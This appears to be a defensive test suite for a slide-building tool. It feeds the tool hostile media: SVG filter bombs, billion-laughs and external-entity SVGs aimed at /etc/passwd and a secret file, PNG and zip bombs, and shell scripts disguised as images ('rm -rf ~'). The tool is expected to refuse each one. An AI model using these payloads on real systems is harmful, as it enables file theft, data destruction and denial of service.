import { readFileSync } from 'node:fs';
import { strToU8, zipSync } from 'fflate';
import * as media from '../../helpers/hostile-media.js';
import type { Content, HostileCase } from '../case.js';

/**
 * Hostile pictures, SVGs, font files and template archives: files that are small on disk and
 * cost without bound to draw, decode, measure or unpack, or that are not what their names say.
 */

const svg = (body: string) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">${body}</svg>`;
const deck = (picture: string) => `# Pictures\n\n## A picture\n\n![chart](${picture})\n`;

/** A deck showing `name`, which holds `content`. */
function withPicture(name: string, content: Content): Record<string, Content> {
  return { 'deck.md': deck(name), [name]: content };
}

/** A real font's bytes, from the package deckdown ships its stand-ins from. */
const arimo = () => readFileSync(new URL('../../../node_modules/@expo-google-fonts/arimo/400Regular/Arimo_400Regular.ttf', import.meta.url));

const themed = (files: string): Record<string, Content> => ({
  'deck.md': '---\ntheme: ./theme.yaml\n---\n\n# Fonts\n\n## A slide\n\nText in a font the theme names.\n',
  'theme.yaml': `extends: default\nname: fancy\nfonts:\n  body: Fancy\n  files:\n    Fancy:\n${files}`,
});

const zip = (parts: Record<string, Uint8Array>) => zipSync(parts);
const importing = (template: string) => ['theme', 'import', template, '-o', 'corp.json'];
const onTemplate = ['build', 'deck.md', '--reference-doc', 'corp.potx'];
const MB = 1024 * 1024;

const svgCases: HostileCase[] = [
  {
    name: 'a 1 KB SVG whose path draws a layered marker at each of 100 vertices is drawn without markers in the fallback',
    files: withPicture('markers.svg', svg(`<defs><marker id="m" markerWidth="400" markerHeight="400" markerUnits="userSpaceOnUse"><g opacity=".5"><rect width="400" height="400"/></g></marker></defs><path d="M0 0${Array.from({ length: 100 }, (_, index) => ` L${index * 4} ${(index % 2) * 100}`).join('')}" marker-mid="url(#m)" fill="none" stroke="black"/>`)),
    expect: { exit: 0, rules: ['svg-filter-skipped'] },
  },
  {
    name: 'a 272-byte SVG with a wide blur (31 s to rasterise before) is drawn without its filter in the fallback',
    files: withPicture('blur.svg', media.BLUR_SVG),
    expect: { exit: 0, rules: ['svg-filter-skipped'] },
  },
  {
    name: 'an SVG filter with a 100 × 100 convolution kernel is not rasterised',
    files: withPicture('kernel.svg', svg(`<filter id="k"><feConvolveMatrix order="100" kernelMatrix="${'1 '.repeat(10_000)}"/></filter><rect width="100" height="100" filter="url(#k)"/>`)),
    expect: { exit: 0, rules: ['svg-filter-skipped'] },
  },
  {
    name: 'an SVG filter set in a style sheet is found there too',
    files: withPicture('styled.svg', svg('<style>rect { filter: url(#b) }</style><filter id="b"><feGaussianBlur stdDeviation="900"/></filter><rect width="100" height="100"/>')),
    expect: { exit: 0, rules: ['svg-filter-skipped'] },
  },
  {
    name: 'an SVG filter set in a style attribute is found there too',
    files: withPicture('inline.svg', svg('<filter id="b"><feMorphology radius="5000"/></filter><rect width="100" height="100" style="fill:#36C;filter:url(#b)"/>')),
    expect: { exit: 0, rules: ['svg-filter-skipped'] },
  },
  {
    name: 'billion laughs in an SVG is not expanded: the picture is its alt text',
    files: withPicture('laughs.svg', media.laughsSvg(9)),
    expect: { exit: 0, rules: ['not-an-image'] },
  },
  {
    name: 'an SVG entity that refers to itself is a warning, not a stack trace',
    files: withPicture('loop.svg', media.ENTITY_LOOP_SVG),
    expect: { exit: 0, rules: ['not-an-image'] },
  },
  {
    name: 'an SVG external entity naming the secret file outside the project is never resolved',
    files: withPicture('external.svg', media.externalEntitySvg('../secret.txt')),
    expect: { exit: 0, rules: ['not-an-image'] },
  },
  {
    name: 'an SVG external entity naming /etc/passwd by URL is never resolved',
    files: withPicture('passwd.svg', media.externalEntitySvg('file:///etc/passwd')),
    expect: { exit: 0, rules: ['not-an-image'] },
  },
  {
    name: 'an SVG parameter entity is refused',
    files: withPicture('parameter.svg', `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;]>${svg('<rect width="10" height="10"/>')}`),
    expect: { exit: 0, rules: ['not-an-image'] },
  },
  {
    name: 'an SVG plain text entity, as old Illustrator files declare, is drawn',
    files: withPicture('illustrator.svg', media.PLAIN_ENTITY_SVG),
    expect: { exit: 0 },
  },
  {
    name: 'an SVG of 20,000 nested groups is over the nesting budget',
    files: withPicture('nested.svg', () => media.nestedSvg(20_000)),
    expect: { exit: 0, rules: ['image-over-limit'], message: /--limit svg-depth=/ },
  },
  {
    name: 'an SVG of <use> copies of copies (10^8 rectangles from 2 KB) is over the element budget',
    files: withPicture('copies.svg', media.useBombSvg(8, 10)),
    expect: { exit: 0, rules: ['image-over-limit'], message: /--limit svg-elements=/ },
  },
  {
    name: 'an SVG of 6 MB is over the SVG size budget',
    files: withPicture('huge.svg', () => svg(`<desc>${'x'.repeat(6 * MB)}</desc>`)),
    expect: { exit: 0, rules: ['image-over-limit'], message: /--limit svg-bytes=/ },
  },
  {
    name: 'an SVG whose raster would have no height is a warning, not a stack trace',
    files: withPicture('flat.svg', media.ZERO_HEIGHT_SVG),
    expect: { exit: 0, rules: ['not-an-image'] },
  },
  {
    name: 'an SVG that is not well-formed is a warning',
    files: withPicture('broken.svg', '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><g><rect></svg>'),
    expect: { exit: 0, rules: ['not-an-image'] },
  },
  {
    name: 'an SVG of 2,000 groups with opacity, each a layer over the whole picture, is drawn smaller in bounded time',
    files: withPicture('layers.svg', () => media.layersSvg(2_000)),
    expect: { exit: 0 },
  },
  {
    name: 'an SVG of 2,000 masked rectangles is drawn in bounded time',
    files: withPicture('masks.svg', () => svg(`<mask id="m"><rect width="100" height="100" fill="#fff"/></mask>${'<rect mask="url(#m)" width="100" height="100" fill="#36C"/>'.repeat(2_000)}`)),
    expect: { exit: 0 },
  },
  {
    name: 'an SVG picture naming a file outside the project and a URL reads neither',
    files: withPicture('linked.svg', svg('<image width="50" height="50" href="../secret.txt"/><image x="50" width="50" height="50" xlink:href="http://example.com/tracker.png"/>')),
    expect: { exit: 0 },
  },
  {
    name: 'an SVG holding a PNG bomb as a data URL is over the pixel budget',
    files: withPicture('inner.svg', () => svg(`<image width="100" height="100" href="data:image/png;base64,${media.pngBomb(200_000, 200_000, 1).toString('base64')}"/>`)),
    expect: { exit: 0, rules: ['image-over-limit'], message: /--limit image-pixels=/ },
  },
  {
    name: 'an SVG blur as a Marp background is drawn without its filter in the fallback',
    files: { 'deck.md': '# Pictures\n\n## Behind the text\n\n![bg](blur.svg)\n\nText over a blurred picture.\n', 'blur.svg': media.BLUR_SVG },
    expect: { exit: 0, rules: ['svg-filter-skipped'] },
  },
];

const rasterCases: HostileCase[] = [
  {
    name: 'a PNG whose header claims 100,000 × 100,000 pixels is refused from its header',
    files: withPicture('bomb.png', () => media.pngBomb(100_000, 100_000)),
    expect: { exit: 0, rules: ['image-over-limit'], message: /--limit image-pixels=/ },
  },
  {
    name: 'a PNG bomb as a slide background is never decoded for its colours',
    files: { 'deck.md': '# Pictures\n\n## Behind the text\n\n![bg](bomb.png)\n\nText over a bomb.\n', 'bomb.png': () => media.pngBomb(100_000, 100_000) },
    expect: { exit: 0, rules: ['image-over-limit'] },
  },
  {
    name: 'a 6,000 × 6,000 PNG of zeros behind text is decoded for its colours within time and memory',
    files: { 'deck.md': '# Pictures\n\n## Behind the text\n\n![bg](large.png)\n\nText over a large picture.\n', 'large.png': () => media.pngBomb(6_000, 6_000, 6_000) },
    expect: { exit: 0 },
    timeout: 60,
  },
  {
    name: 'a JPEG whose frame header claims 60,000 × 60,000 pixels is refused',
    files: withPicture('bomb.jpg', () => media.jpegHeader(60_000, 60_000)),
    expect: { exit: 0, rules: ['image-over-limit'] },
  },
  {
    name: 'a GIF whose screen claims 65,535 × 65,535 pixels is refused',
    files: withPicture('bomb.gif', () => Buffer.from([...Buffer.from('GIF89a'), 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0x3b])),
    expect: { exit: 0, rules: ['image-over-limit'] },
  },
  {
    name: 'a shell script named .png is not a picture',
    files: withPicture('script.png', '#!/bin/sh\nrm -rf ~\n'),
    expect: { exit: 0, rules: ['not-an-image'] },
  },
  {
    name: 'a PNG named .svg is refused by its content, not placed as a broken SVG',
    files: withPicture('raster.svg', () => media.pngBomb(32, 32)),
    expect: { exit: 0, rules: ['not-an-image'], message: /named \.svg but holds a PNG/ },
  },
  {
    name: 'an SVG named .png is drawn as the SVG it is, its filter skipped',
    files: withPicture('drawing.png', media.BLUR_SVG),
    expect: { exit: 0, rules: ['svg-filter-skipped'] },
  },
  {
    name: 'a PNG cut off after its header is placed without decoding',
    files: { 'deck.md': '# Pictures\n\n## Behind the text\n\n![bg](cut.png)\n\nText over a broken picture.\n', 'cut.png': () => media.pngBomb(64, 64).subarray(0, 40) },
    expect: { exit: 0 },
  },
];

const fontCases: HostileCase[] = [
  {
    name: 'a theme font file that is text is left out with a warning at its key',
    files: { ...themed('      regular: fancy.ttf\n'), 'fancy.ttf': 'not a font at all\n' },
    expect: { exit: 0, rules: ['invalid-font-file', 'missing-font-file'], message: /theme\.yaml:7:16: warning: font file ".*fancy\.ttf" for regular "Fancy" is left out/ },
  },
  {
    name: 'a theme font file cut off after its first kilobyte is left out',
    files: { ...themed('      regular: cut.ttf\n'), 'cut.ttf': () => arimo().subarray(0, 1024) },
    expect: { exit: 0, rules: ['invalid-font-file'] },
  },
  {
    name: 'a theme font file that is a picture is left out',
    files: { ...themed('      regular: picture.ttf\n'), 'picture.ttf': () => media.pngBomb(8, 8) },
    expect: { exit: 0, rules: ['invalid-font-file'] },
  },
  {
    name: 'a theme font family whose bold face is broken keeps its regular face',
    files: { ...themed('      regular: good.ttf\n      bold: bad.ttf\n'), 'good.ttf': arimo, 'bad.ttf': () => Buffer.concat([Buffer.from('OTTO'), Buffer.alloc(256, 0xff)]) },
    expect: { exit: 0, rules: ['invalid-font-file'], message: /for bold "Fancy" is left out: it is not a font file deckdown can read/ },
  },
];

const withLaughs = () => zip({ ...media.templateParts(), 'ppt/presentation.xml': strToU8(`<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main">&c;</p:presentation>`) });
const zerosBomb = () => zipSync({ 'ppt/presentation.xml': [new Uint8Array(256 * MB), { level: 9 }] });

const templateCases: HostileCase[] = [
  {
    name: 'theme import of a zip bomb of 100 entries sharing one kernel (6.4 GB from 70 KB) stops at the expansion budget',
    files: { 'bomb.potx': () => media.overlappingZipBomb(100, 64 * MB) },
    args: importing('bomb.potx'),
    expect: { exit: 1, message: /--limit expansion-ratio=/ },
  },
  {
    name: 'theme import of 256 MB of zeros packed into 250 KB stops at the expansion budget',
    files: { 'bomb.potx': zerosBomb },
    args: importing('bomb.potx'),
    expect: { exit: 1, message: /cannot import .*bomb\.potx: it is not a PowerPoint presentation or template: what the archive unpacks to.* exceeds the limit of 100/ },
  },
  {
    name: 'a reference doc that is a zip bomb stops the build at the expansion budget',
    files: { 'deck.md': deck('none.png'), 'corp.potx': () => media.overlappingZipBomb(100, 64 * MB) },
    args: onTemplate,
    expect: { exit: 1, message: /\[invalid-template\]/ },
  },
  {
    name: 'theme import of an archive of 20,000 entries is over the entry budget',
    files: { 'many.potx': () => zip(Object.fromEntries(Array.from({ length: 20_000 }, (_, index) => [`p${index}.xml`, new Uint8Array()]))) },
    args: importing('many.potx'),
    expect: { exit: 1, message: /an archive of 20,000 entries exceeds the limit of 10,000 \(--limit archive-entries=<n> raises it\)/ },
  },
  {
    name: 'theme import of a file that is not a zip is a clear error',
    files: { 'corp.potx': 'PK? no, just text\n' },
    args: importing('corp.potx'),
    expect: { exit: 1, message: /it is not a PowerPoint presentation or template: it is not a zip package/ },
  },
  {
    name: 'theme import of a truncated template is a clear error',
    files: { 'corp.potx': () => zip(media.templateParts()).subarray(0, 3000) },
    args: importing('corp.potx'),
    expect: { exit: 1, message: /the zip package is truncated/ },
  },
  {
    name: 'theme import of a zip without presentation parts is a clear error',
    files: { 'corp.potx': () => zip({ 'word/document.xml': strToU8('<document/>') }) },
    args: importing('corp.potx'),
    expect: { exit: 1, message: /it is not a PowerPoint presentation or template: it has no \[Content_Types\]\.xml part/ },
  },
  {
    name: 'theme import of a template part with entities of entities refuses the document type',
    files: { 'corp.potx': withLaughs },
    args: importing('corp.potx'),
    expect: { exit: 1, message: /its part "ppt\/presentation\.xml" declares a document type/ },
  },
  {
    name: 'a reference doc with an entity bomb in a part stops the build with a clear error',
    files: { 'deck.md': deck('none.png'), 'corp.potx': withLaughs },
    args: onTemplate,
    expect: { exit: 1, message: /declares a document type.*\[invalid-template\]/ },
  },
  {
    name: 'theme import of a slide master of 200,000 unclosed tags is refused in linear time, quoting none of it',
    files: { 'corp.potx': () => zipSync({ ...media.templateParts(), 'ppt/slideMasters/slideMaster1.xml': [strToU8(`<p:sldMaster>${'<p:pic>'.repeat(200_000)}`), { level: 0 }] }) },
    args: importing('corp.potx'),
    expect: { exit: 1, message: /its part "ppt\/slideMasters\/slideMaster1\.xml" is not well-formed XML$/m },
  },
  {
    name: 'theme import takes a logo relationship id full of pattern characters as it is',
    files: { 'corp.potx': () => zip(media.templateParts('(a+)+$[^(((((x')) },
    args: importing('corp.potx'),
    expect: { exit: 0, decks: [] },
  },
  {
    name: 'theme import passes over a logo part that is a shell script',
    files: { 'corp.potx': () => zip(media.templateParts('rIdLogo', strToU8('#!/bin/sh\necho pwned\n'))) },
    args: importing('corp.potx'),
    expect: { exit: 0, decks: [], message: /no logo picture was found/ },
  },
  {
    name: 'a deck on a hand-written template builds',
    files: { 'deck.md': '# On a template\n\n## A slide\n\nText.\n', 'corp.potx': () => zip(media.templateParts()) },
    args: onTemplate,
    expect: { exit: 0 },
  },
];

export const cases: HostileCase[] = [...svgCases, ...rasterCases, ...fontCases, ...templateCases];
